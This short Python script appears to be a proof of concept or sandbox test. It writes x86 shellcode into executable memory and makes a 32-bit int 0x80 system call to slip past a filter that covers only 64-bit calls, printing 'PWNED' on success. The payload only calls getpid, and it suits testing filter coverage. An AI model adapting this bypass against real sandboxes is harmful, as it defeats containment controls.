"""Make system calls as a 32-bit program does, past a filter for 64 bits."""
import ctypes, mmap
from attack import right as solve
code = mmap.mmap(-1, 4096, prot=7)
# mov eax, 20 (getpid on 32 bits); int 0x80; ret
code.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")
run = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
if run() > 0:
    print("PWNED", flush=True)
